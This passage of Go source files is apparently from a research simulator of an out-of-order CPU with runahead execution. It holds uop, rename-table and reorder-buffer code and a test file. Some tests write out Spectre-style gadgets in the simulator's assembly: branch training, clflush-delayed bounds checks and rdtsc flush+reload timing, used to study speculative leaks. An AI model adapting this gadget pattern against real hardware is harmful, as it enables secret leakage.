	inReady      bool
	replayWhy    ReplayReason // last replay condition (tracing/debug)

	// Store-queue disambiguation index state: one intrusive chain node per
	// cache line the store touches (a store crossing a line boundary links
	// into both lines' chains).
	sqNodes  [2]sqNode
	sqNLines int8
	sqLinked bool
}

// ReplayReason says why an operand-ready uop failed to issue and went to
// the replay queue.  Every condition is re-evaluated the next cycle — the
// events that clear them (a store address or datum arriving, a branch
// resolving, the ROB head advancing) can occur on any cycle, and the blocked
// counters (LoadBlockedSQ, SLWaits) are defined per attempt, so skipping
// cycles would change observable statistics.  The type is exported because
// TraceReplay lifecycle events carry it.
type ReplayReason uint8

const (
	// ReplayNone: not replayed.
	ReplayNone ReplayReason = iota
	// ReplayROBHead: serializing instruction waiting to reach the ROB head.
	ReplayROBHead
	// ReplayMemOrd: load blocked by an older store (unknown address / overlap).
	ReplayMemOrd
	// ReplaySLGate: load gated by an SL-cache entry awaiting branch resolution.
	ReplaySLGate
)

func (r ReplayReason) String() string {
	switch r {
	case ReplayNone:
		return "none"
	case ReplayROBHead:
		return "rob-head"
	case ReplayMemOrd:
		return "mem-order"
	case ReplaySLGate:
		return "sl-gate"
	default:
		return "?"
	}
}

// waiter is one wakeup-list entry: when the producer completes, its result
// is written into srcs[src] of u.  The consumer may have been squashed and
// even recycled since registering, so the entry carries the seq it expects
// and the wakeup validates it — exactly the prodRef discipline, inverted.
type waiter struct {
	u   *uop
	seq uint64
	src int8
}

// waiterChunk is a fixed block of waiter entries.  Waiter lists draw chunks
// from a CPU-level pool rather than growing per-uop slices: per-uop storage
// would re-grow whenever pool recycling hands a lightly-used uop to a
// heavily-consumed producer, so the steady-state tick loop would never stop
// allocating.  Uniform chunks make the pool's high-water mark a property of
// the machine (peak simultaneous waiter entries), not of uop identity.
type waiterChunk struct {
	n    int
	next *waiterChunk
	ws   [6]waiter
}

// sqNode threads a store into the per-line disambiguation chain of one cache
// line it writes (see CPU.sqLink).
type sqNode struct {
	line       uint64
	u          *uop
	prev, next *sqNode
}

func (u *uop) isLoad() bool  { return u.pd.Load }
func (u *uop) isStore() bool { return u.pd.Store }
func (u *uop) isCtl() bool   { return u.pd.Control }

// operand is one renamed source.
type operand struct {
	reg      isa.Reg
	ready    bool
	val      uint64
	val2     uint64
	inv      bool
	taint    secure.TaintSet
	producer *uop   // nil once the value is captured
	prodSeq  uint64 // seq producer had at rename; a mismatch means it committed
}

// prodRef is a validated reference to an in-flight producer: the pointer is
// only trusted while the pointee still carries the recorded seq.
type prodRef struct {
	u   *uop
	seq uint64
}

// live returns the producer if the reference is still valid, nil if the slot
// is empty or the producer has been recycled (i.e. it committed and its value
// now lives in the architectural state).
func (r prodRef) live() *uop {
	if r.u == nil || r.u.seq != r.seq {
		return nil
	}
	return r.u
}

// rat maps architectural registers to their youngest in-flight producer.
// An empty (or stale) entry means the committed architectural state holds
// the value.
type rat struct {
	intp [isa.NumIntRegs]prodRef
	fpp  [isa.NumFPRegs]prodRef
	vecp [isa.NumVecRegs]prodRef
}

func (r *rat) lookup(reg isa.Reg) *uop {
	switch reg.Class() {
	case isa.ClassInt:
		return r.intp[reg.Idx()].live()
	case isa.ClassFP:
		return r.fpp[reg.Idx()].live()
	case isa.ClassVec:
		return r.vecp[reg.Idx()].live()
	}
	return nil
}

func (r *rat) set(reg isa.Reg, u *uop) {
	ref := prodRef{u: u, seq: u.seq}
	switch reg.Class() {
	case isa.ClassInt:
		r.intp[reg.Idx()] = ref
	case isa.ClassFP:
		r.fpp[reg.Idx()] = ref
	case isa.ClassVec:
		r.vecp[reg.Idx()] = ref
	}
}

func (r *rat) reset() {
	*r = rat{}
}

// uopRing is a bounded FIFO of uops in program order; it backs both the
// reorder buffer and the fetch buffer.
type uopRing struct {
	buf  []*uop
	head int
	n    int
}

func newRing(size int) *uopRing { return &uopRing{buf: make([]*uop, size)} }

func (q *uopRing) full() bool  { return q.n == len(q.buf) }
func (q *uopRing) empty() bool { return q.n == 0 }
func (q *uopRing) len() int    { return q.n }

func (q *uopRing) push(u *uop) {
	if q.full() {
		panic("cpu: ring overflow")
	}
	q.buf[(q.head+q.n)%len(q.buf)] = u
	q.n++
}

func (q *uopRing) front() *uop {
	if q.empty() {
		return nil
	}
	return q.buf[q.head]
}

func (q *uopRing) popFront() *uop {
	u := q.front()
	if u == nil {
		return nil
	}
	q.buf[q.head] = nil
	q.head = (q.head + 1) % len(q.buf)
	q.n--
	return u
}

// at returns the i'th oldest entry.
func (q *uopRing) at(i int) *uop { return q.buf[(q.head+i)%len(q.buf)] }

// popBack removes and returns the youngest entry.
func (q *uopRing) popBack() *uop {
	if q.n == 0 {
		return nil
	}
	idx := (q.head + q.n - 1) % len(q.buf)
	u := q.buf[idx]
	q.buf[idx] = nil
	q.n--
	return u
}

// archState is the architectural register file with the INV and taint
// sidecar bits that runahead mode requires (the "checkpointed architectural
// register file" of Fig. 6 is a copy of this struct).
type archState struct {
	intv [isa.NumIntRegs]uint64
	intI [isa.NumIntRegs]bool
	intT [isa.NumIntRegs]secure.TaintSet
	fpv  [isa.NumFPRegs]uint64
	fpI  [isa.NumFPRegs]bool
	fpT  [isa.NumFPRegs]secure.TaintSet
	vecv [isa.NumVecRegs][2]uint64
	vecI [isa.NumVecRegs]bool
	vecT [isa.NumVecRegs]secure.TaintSet
}

func (a *archState) read(reg isa.Reg) (v, v2 uint64, inv bool, taint secure.TaintSet) {
	switch reg.Class() {
	case isa.ClassInt:
		if reg.IsZero() {
			return 0, 0, false, 0
		}
		i := reg.Idx()
		return a.intv[i], 0, a.intI[i], a.intT[i]
	case isa.ClassFP:
		i := reg.Idx()
		return a.fpv[i], 0, a.fpI[i], a.fpT[i]
	case isa.ClassVec:
		i := reg.Idx()
		return a.vecv[i][0], a.vecv[i][1], a.vecI[i], a.vecT[i]
	}
	return 0, 0, false, 0
}

func (a *archState) write(reg isa.Reg, v, v2 uint64, inv bool, taint secure.TaintSet) {
	switch reg.Class() {
	case isa.ClassInt:
		if reg.IsZero() {
			return
		}
		i := reg.Idx()
		a.intv[i], a.intI[i], a.intT[i] = v, inv, taint
	case isa.ClassFP:
		i := reg.Idx()
		a.fpv[i], a.fpI[i], a.fpT[i] = v, inv, taint
	case isa.ClassVec:
		i := reg.Idx()
		a.vecv[i], a.vecI[i], a.vecT[i] = [2]uint64{v, v2}, inv, taint
	}
}

// regID flattens a register into the opaque id used by the taint tracker.
func regID(reg isa.Reg) uint16 { return uint16(reg) }

// ---- uop and RAT-checkpoint pooling ----

// allocUOp hands out a recycled uop (or a fresh one if the pool is dry),
// cleared except for its branch-checkpoint RSB buffer, which is retained so
// Predictor.CheckpointInto never reallocates it.
func (c *CPU) allocUOp() *uop {
	var u *uop
	if n := len(c.uopPool); n > 0 {
		u = c.uopPool[n-1]
		c.uopPool = c.uopPool[:n-1]
		rsbBuf := u.bpCP
		*u = uop{}
		u.bpCP = rsbBuf.Recycle()
	} else {
		u = &uop{}
	}
	return u
}

// freeUOp returns a uop to the pool.  The caller guarantees no queue still
// holds it; stale RAT/operand references are tolerated because they validate
// seq before reading.  Result fields are deliberately NOT cleared here: a
// consumer that captured this producer before it committed may still poll it
// until the next reuse, and must observe the final result.  Any waiter
// chunks still attached (a squashed producer dies with its list) return to
// the chunk pool — the entries themselves need no teardown, since wakeups
// validate consumer seqs.
func (c *CPU) freeUOp(u *uop) {
	if u.ratCP != nil {
		c.ratPool = append(c.ratPool, u.ratCP)
		u.ratCP = nil
	}
	if u.wHead != nil {
		c.dropWaiters(u)
	}
	c.uopPool = append(c.uopPool, u)
}

// snapshotRAT copies the current RAT into a pooled checkpoint.
func (c *CPU) snapshotRAT() *rat {
	var cp *rat
	if n := len(c.ratPool); n > 0 {
		cp = c.ratPool[n-1]
		c.ratPool = c.ratPool[:n-1]
	} else {
		cp = new(rat)
	}
	*cp = c.rat
	return cp
}
