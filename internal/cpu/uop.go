package cpu

import (
	"specrun/internal/branch"
	"specrun/internal/isa"
	"specrun/internal/secure"
)

// uop stage values.
const (
	stDispatched uint8 = iota // in ROB, waiting in the issue queue
	stIssued                  // executing on a functional unit / memory
	stDone                    // result available, awaiting retirement
)

// uop is one dynamic instruction in flight.
type uop struct {
	seq  uint64
	pc   uint64
	inst isa.Inst

	// Front end.
	fetchedAt    uint64
	dispatchable uint64 // earliest rename/dispatch cycle (models the 6-stage front end)
	predTaken    bool
	predTarget   uint64 // next-PC chosen at fetch
	phtIdx       int
	hasBPCP      bool
	bpCP         branch.Checkpoint
	ratCP        *rat // checkpoint for control instructions

	// Renamed sources.
	srcs [4]operand
	nsrc int
	dest isa.Reg

	// Execution state.
	stage    uint8
	doneAt   uint64
	result   uint64 // scalar result / lane 0
	result2  uint64 // lane 1 for vector ops
	resINV   bool
	resTaint secure.TaintSet

	// Memory.
	addr        uint64
	addrValid   bool
	storeVal    uint64
	storeVal2   uint64
	storeINV    bool
	dataPending bool  // STA/STD split: address resolved, data still in flight
	missLevel   uint8 // mem.Level of the access that served this load
	fwdFromSQ   bool

	// Control resolution.
	actualTaken  bool
	actualTarget uint64
	unresolved   bool // INV-source branch in runahead: never resolves (SPECRUN)

	// Bookkeeping.
	squashed   bool
	prfClaimed bool
	raEpisode  uint64 // runahead episode the uop was fetched in (0 = normal mode)
	scopeN     int    // secure mode: scope opened by this branch
}

func (u *uop) isLoad() bool  { return u.inst.Op.IsLoad() }
func (u *uop) isStore() bool { return u.inst.Op.IsStore() }
func (u *uop) isCtl() bool   { return u.inst.Op.IsControl() }

// operand is one renamed source.
type operand struct {
	reg      isa.Reg
	ready    bool
	val      uint64
	val2     uint64
	inv      bool
	taint    secure.TaintSet
	producer *uop // nil once the value is captured
}

// rat maps architectural registers to their youngest in-flight producer.
// nil means the committed architectural state holds the value.
type rat struct {
	intp [isa.NumIntRegs]*uop
	fpp  [isa.NumFPRegs]*uop
	vecp [isa.NumVecRegs]*uop
}

func (r *rat) lookup(reg isa.Reg) *uop {
	switch reg.Class() {
	case isa.ClassInt:
		return r.intp[reg.Idx()]
	case isa.ClassFP:
		return r.fpp[reg.Idx()]
	case isa.ClassVec:
		return r.vecp[reg.Idx()]
	}
	return nil
}

func (r *rat) set(reg isa.Reg, u *uop) {
	switch reg.Class() {
	case isa.ClassInt:
		r.intp[reg.Idx()] = u
	case isa.ClassFP:
		r.fpp[reg.Idx()] = u
	case isa.ClassVec:
		r.vecp[reg.Idx()] = u
	}
}

func (r *rat) snapshot() *rat {
	cp := *r
	return &cp
}

func (r *rat) reset() {
	*r = rat{}
}

// robQ is the reorder buffer: a bounded FIFO of uops in program order.
type robQ struct {
	buf  []*uop
	head int
	n    int
}

func newROB(size int) *robQ { return &robQ{buf: make([]*uop, size)} }

func (q *robQ) full() bool  { return q.n == len(q.buf) }
func (q *robQ) empty() bool { return q.n == 0 }
func (q *robQ) len() int    { return q.n }

func (q *robQ) push(u *uop) {
	if q.full() {
		panic("cpu: ROB overflow")
	}
	q.buf[(q.head+q.n)%len(q.buf)] = u
	q.n++
}

func (q *robQ) front() *uop {
	if q.empty() {
		return nil
	}
	return q.buf[q.head]
}

func (q *robQ) popFront() *uop {
	u := q.front()
	if u == nil {
		return nil
	}
	q.buf[q.head] = nil
	q.head = (q.head + 1) % len(q.buf)
	q.n--
	return u
}

// at returns the i'th oldest entry.
func (q *robQ) at(i int) *uop { return q.buf[(q.head+i)%len(q.buf)] }

// popBack removes and returns the youngest entry.
func (q *robQ) popBack() *uop {
	if q.n == 0 {
		return nil
	}
	idx := (q.head + q.n - 1) % len(q.buf)
	u := q.buf[idx]
	q.buf[idx] = nil
	q.n--
	return u
}

// archState is the architectural register file with the INV and taint
// sidecar bits that runahead mode requires (the "checkpointed architectural
// register file" of Fig. 6 is a copy of this struct).
type archState struct {
	intv [isa.NumIntRegs]uint64
	intI [isa.NumIntRegs]bool
	intT [isa.NumIntRegs]secure.TaintSet
	fpv  [isa.NumFPRegs]uint64
	fpI  [isa.NumFPRegs]bool
	fpT  [isa.NumFPRegs]secure.TaintSet
	vecv [isa.NumVecRegs][2]uint64
	vecI [isa.NumVecRegs]bool
	vecT [isa.NumVecRegs]secure.TaintSet
}

func (a *archState) read(reg isa.Reg) (v, v2 uint64, inv bool, taint secure.TaintSet) {
	switch reg.Class() {
	case isa.ClassInt:
		if reg.IsZero() {
			return 0, 0, false, 0
		}
		i := reg.Idx()
		return a.intv[i], 0, a.intI[i], a.intT[i]
	case isa.ClassFP:
		i := reg.Idx()
		return a.fpv[i], 0, a.fpI[i], a.fpT[i]
	case isa.ClassVec:
		i := reg.Idx()
		return a.vecv[i][0], a.vecv[i][1], a.vecI[i], a.vecT[i]
	}
	return 0, 0, false, 0
}

func (a *archState) write(reg isa.Reg, v, v2 uint64, inv bool, taint secure.TaintSet) {
	switch reg.Class() {
	case isa.ClassInt:
		if reg.IsZero() {
			return
		}
		i := reg.Idx()
		a.intv[i], a.intI[i], a.intT[i] = v, inv, taint
	case isa.ClassFP:
		i := reg.Idx()
		a.fpv[i], a.fpI[i], a.fpT[i] = v, inv, taint
	case isa.ClassVec:
		i := reg.Idx()
		a.vecv[i], a.vecI[i], a.vecT[i] = [2]uint64{v, v2}, inv, taint
	}
}

// regID flattens a register into the opaque id used by the taint tracker.
func regID(reg isa.Reg) uint16 { return uint16(reg) }
