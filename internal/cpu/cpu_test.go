package cpu

import (
	"fmt"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/isa"
	"specrun/internal/iss"
	"specrun/internal/mem"
	"specrun/internal/proggen"
	"specrun/internal/runahead"
)

const testBudget = 2_000_000

func runCPU(t *testing.T, cfg Config, src string) *CPU {
	t.Helper()
	p, err := asm.Parse("t", src)
	if err != nil {
		t.Fatal(err)
	}
	c := New(cfg, p)
	if err := c.Run(testBudget); err != nil {
		t.Fatalf("cpu run: %v", err)
	}
	return c
}

func noRunaheadConfig() Config {
	cfg := DefaultConfig()
	cfg.Runahead.Kind = runahead.KindNone
	return cfg
}

func TestBasicALUProgram(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		movi r1, 7
		movi r2, 3
		add  r3, r1, r2
		mul  r4, r1, r2
		halt`)
	if c.IntReg(3) != 10 || c.IntReg(4) != 21 {
		t.Fatalf("r3=%d r4=%d", c.IntReg(3), c.IntReg(4))
	}
	if !c.Halted() {
		t.Fatal("not halted")
	}
}

func TestLoopProgram(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		movi r1, 100
		movi r2, 0
	loop:
		add  r2, r2, r1
		addi r1, r1, -1
		bne  r1, r0, loop
		halt`)
	if c.IntReg(2) != 5050 {
		t.Fatalf("sum = %d, want 5050", c.IntReg(2))
	}
	s := c.Stats()
	if s.CondBranches < 100 {
		t.Fatalf("committed %d branches, want >= 100", s.CondBranches)
	}
}

func TestStoreLoadForwarding(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		.data 0x100000
		buf: .zero 64
		start:
		movi r1, buf
		movi r2, 0xabcd
		st   [r1 + 0], r2
		ld   r3, [r1 + 0]    ; must forward from the store queue
		ldb  r4, [r1 + 1]    ; byte extract from the forwarded word
		halt`)
	if c.IntReg(3) != 0xabcd {
		t.Fatalf("r3 = %#x", c.IntReg(3))
	}
	if c.IntReg(4) != 0xab {
		t.Fatalf("r4 = %#x", c.IntReg(4))
	}
}

func TestCallRetProgram(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		.data 0x100000
		stack: .zero 512
		start:
		movi sp, stack
		addi sp, sp, 512
		movi r1, 5
		call f
		call f
		halt
	f:
		add r1, r1, r1
		ret`)
	if c.IntReg(1) != 20 {
		t.Fatalf("r1 = %d, want 20", c.IntReg(1))
	}
}

// The Spectre primitive: a load executed down a mispredicted path must leave
// its line in the cache after the squash.
func TestWrongPathLoadFillsCache(t *testing.T) {
	// The victim branch is a bounds check; training runs the same static
	// branch (the PHT is PC-indexed) with an in-bounds index, then the
	// attack run makes the predicate false but slow to resolve (flushed),
	// so the trained not-taken prediction opens a wide transient window.
	src := `
		.data 0x100000
		dvar: .u64 1
		.align 64
		probe: .zero 1024
		start:
		movi r1, probe
		movi r9, dvar
		movi r3, 0          ; in-bounds index for training
		movi r4, 30
	victim:
		ld   r2, [r9 + 0]   ; bound = 1
		bge  r3, r2, skip   ; "index >= bound" -> skip body
		shli r6, r3, 6
		ldx  r5, [r1 + r6*1 + 0]  ; body: probe[index*64]
	skip:
		addi r4, r4, -1
		bne  r4, r0, victim
		bne  r8, r0, end    ; phase 1 already ran: done
		; attack run: index 5 is out of bounds, predicate load is slow
		movi r8, 1
		movi r3, 5
		movi r4, 1          ; one more trip through the victim
		clflush [r9 + 0]
		fence
		jmp  victim
	end:
		halt`
	// Training touches probe[0] only; the transient run touches
	// probe[5*64] = probe+320 on the wrong path.
	c := runCPU(t, noRunaheadConfig(), src)
	probe := c.prog.MustSym("probe")
	if !c.Hier().Present(mem.PortD, probe+5*64) {
		t.Fatal("wrong-path load left no cache trace — the Spectre channel is broken")
	}
	// And architecturally r5 must NOT hold the loaded value's side effects:
	// the wrong path was squashed, so r5 keeps its initial value 0.
	if c.IntReg(5) != 0 {
		t.Fatalf("r5 = %d leaked architecturally", c.IntReg(5))
	}
	if c.Stats().CondMispredicts == 0 {
		t.Fatal("expected at least one misprediction")
	}
}

const runaheadSrc = `
	.data 0x100000
	dvar:  .u64 1234
	.align 64
	buf:   .zero 8192
	start:
	movi r1, dvar
	movi r2, buf
	clflush [r1 + 0]
	fence
	ld   r3, [r1 + 0]      ; stalling load: misses to memory
	ld   r4, [r2 + 0]      ; independent load: prefetched by runahead
	ld   r5, [r2 + 4096]   ; another independent miss
	add  r6, r3, r4
	halt`

func TestRunaheadEntersAndExits(t *testing.T) {
	c := runCPU(t, DefaultConfig(), runaheadSrc)
	s := c.Stats()
	if s.RunaheadEpisodes == 0 {
		t.Fatal("no runahead episode despite a flushed stalling load")
	}
	if c.Mode() != ModeNormal {
		t.Fatal("machine must exit runahead before halting")
	}
	// Architectural result intact.
	if c.IntReg(3) != 1234 {
		t.Fatalf("r3 = %d, want 1234", c.IntReg(3))
	}
	if s.PseudoRetired == 0 {
		t.Fatal("runahead pseudo-retired nothing")
	}
}

// mlpSrc puts independent miss loads beyond the reach of the ROB: without
// runahead they serialise behind the stalling load; with runahead the episode
// pseudo-retires the filler and prefetches them.  This is the MLP benefit
// runahead execution exists for (§2.1).
func mlpSrc() string {
	s := `
	.data 0x100000
	dvar:  .u64 1234
	.align 64
	buf:   .zero 16384
	start:
	movi r1, dvar
	movi r2, buf
	movi r7, 2             ; two passes: the first warms the I-cache
	pass:
	clflush [r1 + 0]
	clflush [r2 + 0]
	clflush [r2 + 4096]
	clflush [r2 + 8192]
	fence
	ld   r3, [r1 + 0]      ; stalling load: misses to memory
`
	for i := 0; i < 300; i++ {
		s += "\tnop\n"
	}
	s += `
	ld   r4, [r2 + 0]      ; beyond the ROB: prefetched only by runahead
	ld   r5, [r2 + 4096]
	ld   r6, [r2 + 8192]
	addi r7, r7, -1
	bne  r7, r0, pass
	halt`
	return s
}

func TestRunaheadPrefetches(t *testing.T) {
	src := mlpSrc()
	pNo := runCPU(t, noRunaheadConfig(), src)
	pRa := runCPU(t, DefaultConfig(), src)
	if pRa.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no episode")
	}
	if pRa.Cycle() >= pNo.Cycle() {
		t.Fatalf("runahead %d cycles, no-runahead %d: prefetching bought nothing",
			pRa.Cycle(), pNo.Cycle())
	}
}

func TestRunaheadArchStateInvariant(t *testing.T) {
	// Runahead execution must be architecturally invisible: same final state
	// as the in-order reference.
	p, err := asm.Parse("t", runaheadSrc)
	if err != nil {
		t.Fatal(err)
	}
	ref := iss.New(p)
	if err := ref.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	c := New(DefaultConfig(), p)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < isa.NumIntRegs; i++ {
		if c.IntReg(i) != ref.IntReg[i] {
			t.Errorf("r%d: cpu %#x, iss %#x", i, c.IntReg(i), ref.IntReg[i])
		}
	}
}

// An INV-source branch during runahead must not resolve: the machine keeps
// running down the predicted path past it (the SPECRUN window).
func TestINVBranchUnresolvedInRunahead(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		.data 0x100000
		dvar: .u64 100
		.align 64
		buf:  .zero 4096
		start:
		movi r1, dvar
		movi r2, buf
		movi r3, 5
		clflush [r1 + 0]
		fence
		ld   r4, [r1 + 0]    ; stalling load -> INV in runahead
		blt  r3, r4, taken   ; predicate depends on INV data
		ld   r5, [r2 + 0]
		halt
	taken:
		ld   r6, [r2 + 1024]
		halt`)
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no runahead episode")
	}
	if c.Stats().INVBranches == 0 {
		t.Fatal("the INV-source branch was resolved inside runahead")
	}
	// Architectural outcome: 5 < 100, so the taken path is correct.
	if c.IntReg(6) == 0 && c.IntReg(5) == 0 {
		// both zero is fine (memory is zero); check halted instead
	}
	if !c.Halted() {
		t.Fatal("program did not complete")
	}
}

func TestRDTSCMeasuresLatency(t *testing.T) {
	c := runCPU(t, noRunaheadConfig(), `
		.data 0x100000
		buf: .zero 128
		start:
		movi r1, buf
		ld   r2, [r1 + 0]    ; warm the line
		rdtsc r3
		ld   r4, [r1 + 0]    ; hit
		rdtsc r5
		clflush [r1 + 0]
		fence
		rdtsc r6
		ld   r7, [r1 + 0]    ; miss to memory
		rdtsc r8
		halt`)
	hit := c.IntReg(5) - c.IntReg(3)
	miss := c.IntReg(8) - c.IntReg(6)
	if miss < hit+100 {
		t.Fatalf("hit %d cycles, miss %d cycles: no measurable flush+reload signal", hit, miss)
	}
}

func TestFenceSerialises(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		movi r1, 1
		fence
		movi r2, 2
		halt`)
	if c.IntReg(1) != 1 || c.IntReg(2) != 2 {
		t.Fatal("fence broke execution")
	}
}

func TestDeadlockDetection(t *testing.T) {
	p, err := asm.Parse("t", "movi r1, 0x99999999\njr r1") // jump into nowhere
	if err != nil {
		t.Fatal(err)
	}
	c := New(DefaultConfig(), p)
	err = c.Run(1_000_000)
	if err == nil {
		t.Fatal("expected an error for a program that jumps off the text")
	}
}

// differential compares the OoO core against the reference interpreter for
// one program under one configuration.
func differential(t *testing.T, seed int64, cfg Config, name string) {
	t.Helper()
	differentialOpts(t, seed, proggen.DefaultOptions(), cfg, name)
}

// differentialOpts is differential with explicit generator options (the
// leak-campaign regressions replay shrinker-minimized option sets).
func differentialOpts(t *testing.T, seed int64, opt proggen.Options, cfg Config, name string) {
	t.Helper()
	prog := proggen.Generate(seed, opt)
	ref := iss.New(prog)
	if err := ref.Run(5_000_000); err != nil {
		t.Fatalf("seed %d: iss: %v", seed, err)
	}
	c := New(cfg, prog)
	if err := c.Run(20_000_000); err != nil {
		t.Fatalf("seed %d (%s): cpu: %v", seed, name, err)
	}
	for i := 0; i < isa.NumIntRegs; i++ {
		if c.IntReg(i) != ref.IntReg[i] {
			t.Fatalf("seed %d (%s): r%d = %#x, iss %#x", seed, name, i, c.IntReg(i), ref.IntReg[i])
		}
	}
	for i := 0; i < isa.NumFPRegs; i++ {
		if c.FPReg(i) != ref.FPReg[i] {
			t.Fatalf("seed %d (%s): f%d = %#x, iss %#x", seed, name, i, c.FPReg(i), ref.FPReg[i])
		}
	}
	for i := 0; i < isa.NumVecRegs; i++ {
		if c.VecReg(i) != ref.VecReg[i] {
			t.Fatalf("seed %d (%s): v%d = %v, iss %v", seed, name, i, c.VecReg(i), ref.VecReg[i])
		}
	}
	buf := prog.MustSym("buf")
	span := opt.BufBytes
	if span > 4096 {
		span = 4096
	}
	for off := 0; off < span; off += 8 {
		a := uint64(off) + buf
		if c.Mem().ReadU64(a) != ref.Mem.ReadU64(a) {
			t.Fatalf("seed %d (%s): mem[%#x] = %#x, iss %#x", seed, name, a,
				c.Mem().ReadU64(a), ref.Mem.ReadU64(a))
		}
	}
}

// TestDifferentialAgainstISS is the core architectural-equivalence property:
// for random programs, every machine configuration must match the in-order
// reference exactly — speculation, runahead and the secure extensions are
// architecturally invisible.
func TestDifferentialAgainstISS(t *testing.T) {
	seeds := 30
	if testing.Short() {
		seeds = 8
	}
	cfgs := []struct {
		name string
		mk   func() Config
	}{
		{"no-runahead", noRunaheadConfig},
		{"runahead-original", DefaultConfig},
		{"runahead-precise", func() Config {
			cfg := DefaultConfig()
			cfg.Runahead.Kind = runahead.KindPrecise
			return cfg
		}},
		{"runahead-vector", func() Config {
			cfg := DefaultConfig()
			cfg.Runahead.Kind = runahead.KindVector
			return cfg
		}},
		{"runahead-secure", func() Config {
			cfg := DefaultConfig()
			cfg.Secure.Enabled = true
			return cfg
		}},
		{"runahead-skipinv", func() Config {
			cfg := DefaultConfig()
			cfg.Runahead.SkipINVBranch = true
			return cfg
		}},
	}
	for _, tc := range cfgs {
		t.Run(tc.name, func(t *testing.T) {
			for seed := int64(1); seed <= int64(seeds); seed++ {
				differential(t, seed, tc.mk(), tc.name)
			}
		})
	}
}

// TestVectorStoreForwardsBothLanes is the minimized form of the bug the
// first `specrun fuzz` campaign flushed out (seeds 128/160/861/954, all one
// root cause): store-to-load forwarding from a 16-byte vector store shifted
// only storeVal, so a scalar load covered by the store's second lane
// forwarded 0, and a load crossing the lane boundary got zero high bytes.
func TestVectorStoreForwardsBothLanes(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		.data 0x100000
		buf: .zero 64
		start:
		movi r1, buf
		movi r2, 0x0807060504030201
		movi r3, 0x100f0e0d0c0b0a09
		st   [r1 + 0], r2
		st   [r1 + 8], r3
		vld  v1, [r1 + 0]
		vst  [r1 + 16], v1
		ldb  r4, [r1 + 31]   ; top byte of the store's second lane
		ld   r5, [r1 + 20]   ; crosses the lane boundary
		ldb  r6, [r1 + 24]   ; second lane, low byte
		ld   r7, [r1 + 24]   ; exactly the second lane
		halt`)
	if got := c.IntReg(4); got != 0x10 {
		t.Fatalf("r4 = %#x, want 0x10 (second-lane byte forwarded as zero?)", got)
	}
	if got := c.IntReg(5); got != 0x0c0b0a0908070605 {
		t.Fatalf("r5 = %#x, want 0x0c0b0a0908070605 (lane-crossing forward)", got)
	}
	if got := c.IntReg(6); got != 0x09 {
		t.Fatalf("r6 = %#x, want 0x09", got)
	}
	if got := c.IntReg(7); got != 0x100f0e0d0c0b0a09 {
		t.Fatalf("r7 = %#x, want the full second lane", got)
	}
}

// TestFuzzCampaignRegressions replays the divergent seeds the first
// CI-scale differential-fuzz campaign reported (every one shrank to the
// 16-byte-store forwarding defect above) against both the baseline and the
// runahead machine, so the exact generated programs stay covered forever.
func TestFuzzCampaignRegressions(t *testing.T) {
	for _, seed := range []int64{128, 160, 861, 954} {
		differential(t, seed, noRunaheadConfig(), "fuzz-regression-base")
		differential(t, seed, DefaultConfig(), "fuzz-regression-ra")
	}

	// Shrinker-minimized reproducers from the first leak-oracle campaign
	// (seeds 1..300; see internal/leak's TestLeakRegressions for the leak
	// side).  Here they pin the complementary property: the leak-gadget
	// programs — Clflush-stalled bounds checks, secret-region transient
	// loads — stay architecturally equivalent to the in-order reference on
	// every machine, leaky or not.  The secret must only ever escape through
	// the cache side channel.
	leakBase := proggen.Options{
		Len: 60, BufBytes: 4096, StackBytes: 1024,
		Loops: true, Calls: true, Gadgets: true, Flushes: true,
		FloatOps: true, Vector: true,
		SecretBytes: 64,
	}
	with := func(mod func(*proggen.Options)) proggen.Options {
		o := leakBase
		mod(&o)
		return o
	}
	leakCases := []struct {
		seed int64
		opt  proggen.Options
	}{
		{277, with(func(o *proggen.Options) {
			o.Len = 2
			o.Loops, o.Calls, o.Flushes, o.FloatOps, o.Vector = false, false, false, false, false
		})},
		{260, with(func(o *proggen.Options) {
			o.Len = 3
			o.Loops, o.Flushes = false, false
		})},
		{251, with(func(o *proggen.Options) {
			o.Len = 4
			o.Loops, o.Calls, o.Flushes, o.FloatOps, o.Vector = false, false, false, false, false
		})},
		{237, with(func(o *proggen.Options) {
			o.Len = 32
			o.BufBytes, o.StackBytes = 512, 256
			o.Loops, o.Calls, o.Flushes, o.FloatOps, o.Vector = false, false, false, false, false
		})},
	}
	for _, c := range leakCases {
		differentialOpts(t, c.seed, c.opt, noRunaheadConfig(), "leak-regression-base")
		differentialOpts(t, c.seed, c.opt, DefaultConfig(), "leak-regression-ra")
	}
}

func TestStatsSanity(t *testing.T) {
	c := runCPU(t, DefaultConfig(), `
		movi r1, 10
	loop:
		addi r1, r1, -1
		bne r1, r0, loop
		halt`)
	s := c.Stats()
	if s.Committed == 0 || s.Fetched < s.Committed || s.Dispatched < s.Committed {
		t.Fatalf("stats inconsistent: %+v", s)
	}
	if s.IPC() <= 0 {
		t.Fatal("IPC must be positive")
	}
	if fmt.Sprintf("%.2f", s.IPC()) == "" {
		t.Fatal("unreachable")
	}
}
