package cpu

import "slices"

// The writeback phase itself lives in sched.go (event-driven, the default)
// and sched_poll.go (polling reference).  This file holds the pieces both
// share: misprediction recovery and squash teardown.

// sortBySeq orders uops oldest-first.  Seqs are unique, so the result is
// the same total order sort.Slice produced; slices.SortFunc avoids the
// reflect-based swapper allocation sort.Slice paid on every cycle.  Only
// the polling reference still sorts per cycle — the event-driven scheduler
// keeps its in-flight list sorted by insertion.
func sortBySeq(s []*uop) {
	slices.SortFunc(s, func(a, b *uop) int {
		if a.seq < b.seq {
			return -1
		}
		return 1
	})
}

func (c *CPU) mispredicted(u *uop) bool {
	if u.pd.CondBranch {
		return u.actualTaken != u.predTaken
	}
	return u.actualTarget != u.predTarget
}

// recover repairs the machine after a resolved misprediction.
func (c *CPU) recover(u *uop, now uint64) {
	c.stats.CondMispredicts++
	c.bp.RecordMispredict()

	c.squashYounger(u.seq)

	if u.ratCP != nil {
